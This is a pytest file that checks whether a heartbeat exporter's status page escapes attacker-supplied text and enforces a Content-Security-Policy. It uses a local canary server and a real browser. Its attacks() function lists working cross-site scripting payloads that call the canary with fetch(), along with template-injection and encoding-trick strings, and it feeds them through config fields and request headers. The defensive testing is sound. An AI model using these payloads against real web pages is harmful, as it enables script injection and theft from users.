"""What people see is text, whatever others have written: the page in a real browser."""

import asyncio
import json
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import NamedTuple

import aiohttp
import pytest
from aiohttp import web
from browser import Browser, browser_in
from servers import ROOT, Exporter, StartExporter

TEMPLATE = ROOT / "exporter" / "web" / "templates" / "status.html"
RID = "6f9619ff-8b86-d011-b42d-00c04fc964ff"


class Page(NamedTuple):
    """A page of HTML, with the headers that it is served with."""

    text: str
    headers: Mapping[str, str]


@dataclass
class Canary:
    """A server that pages which have been broken into would call."""

    url: str = ""
    pages: dict[str, Page] = field(default_factory=dict)
    """What it serves, by path."""
    calls: list[str] = field(default_factory=list)
    """The paths that were asked for and are no pages."""


@asynccontextmanager
async def listening() -> AsyncIterator[Canary]:
    canary = Canary()

    async def answer(request: web.Request) -> web.Response:
        if request.path in canary.pages:
            page = canary.pages[request.path]
            return web.Response(text=page.text, content_type="text/html", headers=page.headers)
        canary.calls.append(request.path)
        return web.Response(text="document.title = 'broken into'", content_type="text/javascript")

    app = web.Application()
    app.router.add_route("*", "/{rest:.*}", answer)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    canary.url = f"http://127.0.0.1:{runner.addresses[0][1]}"
    try:
        yield canary
    finally:
        await runner.cleanup()


@pytest.fixture
async def canary() -> AsyncIterator[Canary]:
    async with listening() as canary:
        yield canary


@pytest.fixture
async def browser(tmp_path: Path) -> AsyncIterator[Browser]:
    folder = tmp_path / "browser"
    folder.mkdir()
    async with browser_in(folder) as browser:
        yield browser


def attacks(call: str) -> list[str]:
    """Texts that would call this URL, or change the page's title, if they ever became more than text."""
    script = f"fetch('{call}');document.title='broken into'"
    return [
        f'<script src="{call}"></script>',
        f"<script>{script}</script>",
        f"</script></title></table></textarea></style>--><script>{script}</script><!--",
        f'<img src="{call}" onerror="{script}">',
        f'"><svg/onload="{script}"><svg>',
        f"'><iframe srcdoc='<script src={call}></script>'></iframe>",
        f'<meta http-equiv="refresh" content="0;url={call}"><base href="{call}"><link rel="stylesheet" href="{call}">',
        f'<style>@import "{call}"; body {{background: url({call})}}</style>',
        f'<form action="{call}"><input autofocus onfocus="{script}"></form>',
        f"<template><object data={call}></object></template><math><mtext><mglyph><style><img src={call}>",
        f"&lt;script&gt;{script}&lt;/script&gt; &#60;b&#62; &amp;amp;",
        f"{{{{ 7 * 7 }}}} {{% raw %}} {{# x #}} ${{{script}}} <%= 7 * 7 %>",
        f"\u202e\u2066<script>{script}</script>",
        f"+ADw-script+AD4-{script}+ADw-/script+AD4-",
        "javascript:document.title='broken into'",
    ]


class Names(HTMLParser):
    """The elements and attributes that a template writes itself."""

    def __init__(self, template: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.feed(template)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}


def start_attacked(start_exporter: StartExporter, texts: list[str], call: str) -> Exporter:
    """An exporter in whose configuration the texts stand wherever a text may stand."""
    url = f"https://wiki.example/\"'><img/src={call}/onerror=document.title='broken'><script/src={call}></script>"
    heartbeats = [
        {"name": f"job-{number}", "interval": "1h", "description": text, "runbook_url": url, "labels": {"team": text}}
        for number, text in enumerate(texts)
    ]
    return start_exporter(json.dumps({"heartbeats": heartbeats}), f"--web.external-url={url}")


async def ping_all(exporter: Exporter, texts: list[str]) -> None:
    """Pings of every heartbeat, with the texts in all that a client may choose."""
    async with aiohttp.ClientSession() as client:
        for url, text in zip(exporter.urls().values(), texts, strict=True):
            address = f"http://127.0.0.1:{exporter.port}/heartbeat/{url.rpartition('/')[2]}"
            told = {"User-Agent": ascii(text), "X-Forwarded-For": ascii(text)}
            async with client.post(address, params={"rid": RID}, data=text.encode(), headers=told) as answer:
                assert answer.status == 200
            async with client.post(address, params={"rid": text}, data=text.encode(), headers=told) as answer:
                assert (answer.status, await answer.text()) == (400, "invalid uuid format")


async def test_the_page_shows_as_text_whatever_others_wrote(
    start_exporter: StartExporter, browser: Browser, canary: Canary
) -> None:
    texts = attacks(f"{canary.url}/called")
    exporter = await asyncio.to_thread(start_attacked, start_exporter, texts, f"{canary.url}/called")
    await ping_all(exporter, texts)

    page = await browser.load(f"http://127.0.0.1:{exporter.port}/")
    assert (page.title, canary.calls, page.complaints) == ("Heartbeats", [], [])
    assert {url for url in page.requests if not url.endswith("/favicon.ico")} == {f"http://127.0.0.1:{exporter.port}/"}

    written = Names(TEMPLATE.read_text())
    assert {element.tag for element in page.elements} <= written.tags
    assert {name for element in page.elements for name in element.attributes} <= written.attributes
    shown = page.texts("bdi")
    assert sorted(shown) == sorted([*texts, *(f"team={text}" for text in texts)])
    assert any("https://wiki.example/\"'><img/src=" in text for text in page.texts("p"))


async def policy(exporter: Exporter) -> str:
    async with aiohttp.ClientSession() as client, client.get(f"http://127.0.0.1:{exporter.port}/") as answer:
        return answer.headers["Content-Security-Policy"]


@pytest.mark.parametrize("number", range(4))
async def test_a_script_that_got_onto_the_page_would_still_not_run(
    start_exporter: StartExporter, browser: Browser, canary: Canary, number: int
) -> None:
    exporter = await asyncio.to_thread(start_exporter, "heartbeats: []")
    headers = {"Content-Security-Policy": await policy(exporter)}
    body = f"<!DOCTYPE html><title>whole</title><body>{attacks(f'{canary.url}/called')[number]}"
    canary.pages = {"/open": Page(body, {}), "/guarded": Page(body, headers), "/favicon.ico": Page("", {})}

    guarded = await browser.load(f"{canary.url}/guarded")
    assert (guarded.title, canary.calls) == ("whole", [])
    assert any("Content Security Policy" in complaint for complaint in guarded.complaints)

    page = await browser.load(f"{canary.url}/open")
    assert page.title == "broken into", "without the header this browser runs it, else the test would show nothing"
    assert "/called" in canary.calls
